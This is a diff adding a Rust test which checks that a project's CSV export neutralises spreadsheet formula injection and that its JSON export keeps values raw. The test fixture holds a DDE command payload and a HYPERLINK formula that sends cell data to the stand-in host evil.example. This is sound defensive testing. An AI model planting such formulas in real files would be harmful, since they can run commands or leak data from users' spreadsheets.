@@ -157,3 +157,50 @@ async fn dry_run_reports_without_writing_and_reimport_changes_nothing() {
     })
     .await;
 }
+
+/// Finding 11 of issue 13: a member's needs and tags reached a spreadsheet as formulas. Every
+/// CSV cell starting with `=`, `+`, `-`, `@`, tab or CR gets a leading `'` (OWASP); JSON stays raw.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralises_formulas_and_json_keeps_them_raw() {
+    on_every_store(|app, db, label| async move {
+        let file = "external_id,name,kind,country,city,description,needs,tags\n\
+            F1,+Formula SA,company,LU,@Foetz,-2+3,=cmd|'/C calc'!A0,\"=hyperlink(\"\"http://evil.example/?q=\"\"&a1);safe\"\n";
+        let r = import(&app, CsvKind::Organisations, "f.csv", file.as_bytes(), false).await;
+        assert!(r.errors.is_empty(), "{label}: {:?}", errors(&r));
+        let mut out = Vec::new();
+        app.export_organisations(app::export::Format::Csv, &mut out).await.unwrap();
+        let mut rows = csv::Reader::from_reader(out.as_slice());
+        let headers = rows.headers().unwrap().clone();
+        let row = rows.records().next().unwrap().unwrap();
+        let cell = |c: &str| row.get(headers.iter().position(|h| h == c).unwrap()).unwrap().to_string();
+        assert_eq!(cell("name"), "'+Formula SA", "{label}");
+        assert_eq!(cell("city"), "'@Foetz");
+        assert_eq!(cell("description"), "'-2+3");
+        assert_eq!(cell("needs"), "'=cmd|'/C calc'!A0");
+        assert_eq!(cell("tags"), "'=hyperlink(\"http://evil.example/?q=\"&a1);safe");
+        assert_eq!(cell("external_id"), "F1", "cells without a formula are unchanged");
+        // The export still re-imports as it is: the import reads the `'` back.
+        let again = import(&app, CsvKind::Organisations, "export.csv", &out, false).await;
+        assert!(again.errors.is_empty(), "{label}: {:?}", errors(&again));
+        assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 1), "{label}");
+        // Like a spreadsheet, the import reads a leading `'` before a formula character as a mark
+        // of text; a text that really starts with `'-` is written `''-`.
+        let quoted = "external_id,name,kind,country,offers,needs\nQ1,'Quoted,company,LU,''-already quoted,'-1\n";
+        let q = import(&app, CsvKind::Organisations, "q.csv", quoted.as_bytes(), false).await;
+        assert_eq!(q.created, 1, "{label}: {:?}", errors(&q));
+        let o = store::get_org_by_external_id(&mut db.conn().await.unwrap(), "Q1").await.unwrap().unwrap();
+        assert_eq!((o.name.as_str(), o.offers.as_str(), o.needs.as_str()), ("'Quoted", "'-already quoted", "-1"));
+        let mut out = Vec::new();
+        app.export_organisations(app::export::Format::Csv, &mut out).await.unwrap();
+        let text = String::from_utf8(out.clone()).unwrap();
+        assert!(text.contains(",'Quoted,") && text.contains(",''-already quoted,"), "{text}");
+        let again = import(&app, CsvKind::Organisations, "export.csv", &out, false).await;
+        assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 2), "{label}: {:?}", errors(&again));
+        let mut json = Vec::new();
+        app.export_organisations(app::export::Format::Json, &mut json).await.unwrap();
+        let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
+        assert_eq!(v[0]["needs"], "=cmd|'/C calc'!A0");
+        assert_eq!(v[0]["tags"][0], "=hyperlink(\"http://evil.example/?q=\"&a1)");
+    })
+    .await;
+}
